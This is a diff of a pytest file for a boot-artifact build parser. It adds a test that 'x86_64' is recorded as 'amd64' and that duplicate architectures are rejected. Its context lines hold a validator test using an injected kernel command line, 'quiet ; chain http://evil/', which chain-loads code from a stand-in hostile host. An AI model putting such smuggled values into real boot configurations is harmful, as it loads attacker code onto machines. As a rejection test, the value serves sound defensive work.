@@ -92,3 +92,11 @@ def test_an_unsafe_command_line_is_refused_with_its_field(files):
     item = dict(artifact(files, "kernel", "initramfs", "rootfs"), cmdline="quiet ; chain http://evil/")
     with pytest.raises(build.BuildError, match=r"^artifacts\[0\].cmdline: .*; remove it from the command line$"):
         build.parse_artifacts([item], ["baremetal"])
+
+
+def test_x86_64_is_recorded_as_amd64_and_counts_as_it(files):
+    (parsed,) = build.parse_artifacts([dict(artifact(files, "rootfs"), architecture="x86_64")], ["virtualization"])
+    assert parsed.architecture == "amd64"
+    twice = [artifact(files, "rootfs"), dict(artifact(files, "rootfs"), architecture="x86_64")]
+    with pytest.raises(build.BuildError, match=r"artifacts\[1\].architecture: amd64 is listed twice"):
+        build.parse_artifacts(twice, ["virtualization"])
